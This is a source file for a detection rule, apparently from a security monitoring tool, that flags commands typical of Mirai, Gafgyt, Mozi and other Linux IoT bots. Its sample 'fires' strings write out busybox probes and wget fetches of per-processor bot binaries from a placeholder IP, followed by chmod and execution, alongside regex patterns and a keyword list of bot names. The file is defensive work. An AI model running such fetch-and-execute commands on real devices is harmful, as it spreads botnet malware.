import { commandRule } from "../../command-rule.js";
import { find } from "../../shell/look.js";

const PROCESSOR =
  /\.(?:arm[4-7]?l?|armv[4-7]\w?|mips(?:el|64)?|mpsl|sh4|ppc|m68k|spc|sparc|x86(?:_64)?|i[4-6]86|arc)$/i;

/** Commands that Mirai, Gafgyt, Mozi, Kinsing and their kin run when they take a device: probes with busybox, fetching one file per processor, killing rivals. */
export const linuxBotBehaviour = commandRule({
  id: "linux-bot-behaviour",
  alertType: "IoT_CommonBots",
  name: "Behavior similar to common Linux bots detected",
  severity: "Medium",
  about:
    "Commands that Mirai, Gafgyt, Mozi, Kinsing and their kin run when they take a device: probes with busybox, fetching one file per processor, killing rivals.",
  tactics: ["Execution", "Command and Control"],
  techniques: ["T1059.004", "T1105", "T1583.005"],
  falsePositives: [
    "Vendors' updaters on small devices fetch with busybox too; they do not make what they fetch executable for all and delete it.",
  ],
  witness: [
    "busybox",
    "mirai",
    "tsunami",
    "kaiten",
    "gafgyt",
    "bashlite",
    "lizkebab",
    "qbot",
    "mozi",
    ".mips",
    ".mpsl",
    ".arm",
    ".sh4",
    "kinsing",
    "dota",
    "xorddos",
    "muhstik",
    "hajime",
    "dvrhelper",
    "/bins/",
  ],
  patterns: [
    /(?:^|\s|\/)busybox\s+(?:MIRAI|ECCHI|[A-Z]{5,12})\s*$/,
    /(?:^|[/\s;])(?:mirai|bashlite|gafgyt|kaiten|lizkebab|qbot|mozi|hajime|muhstik|xorddos|dvrhelper|kinsing)\.(?:arm\w{0,3}|mips\w{0,2}|mpsl|x86\w{0,3}|sh4|ppc|m|sh|a)\b/i,
    /\/bins\/[\w.-]{1,40}\.(?:arm\w{0,3}|mips\w{0,2}|mpsl|x86\w{0,3}|sh4|ppc|m68k|spc)\b/i,
  ],
  sees: (reading) => {
    const fetched = reading.urls.filter((url) => PROCESSOR.test(url));
    const isRun = reading.commands.some(
      ({ name, text }) => name === "chmod" && /\s(?:\+x|[0-7]*7[0-7]{2})/.test(text),
    );
    return (
      (fetched.length >= 2 && isRun ? fetched.join(" ") : undefined) ??
      (isRun
        ? find(
            reading,
            /^(?:wget|tftp|ftpget|curl)$/,
            ({ via, text }) => via.includes("busybox") && /\d+\.\d+\.\d+\.\d+/.test(text),
          )
        : undefined)
    );
  },
  did: "behaves like a known bot",
  because: "bots run this when they take a device",
  fires: [
    "/bin/busybox MIRAI",
    "sh -c /bin/busybox wget http://203.0.113.9/m.arm7; chmod 777 m.arm7",
    "./mozi.m mozi.mips",
    "sh -c cd /tmp; wget http://203.0.113.9/a.mips; wget http://203.0.113.9/a.arm7; chmod +x *; ./a.mips; ./a.arm7",
    "sh -c wget http://203.0.113.9/bins/x.mpsl -O - > /tmp/x",
  ],
  silent: [
    "/bin/busybox sh",
    "busybox ls",
    "busybox wget http://updates.example.net/fw.bin",
    "/bin/busybox udhcpc -i eth0",
    "wget https://deb.example.net/pool/tool.arm64.deb",
    "docker pull registry.example.net/app.x86",
    "sh -c busybox wget -q http://updates.example.net/fw.bin && chmod 755 fw.bin",
  ],
});
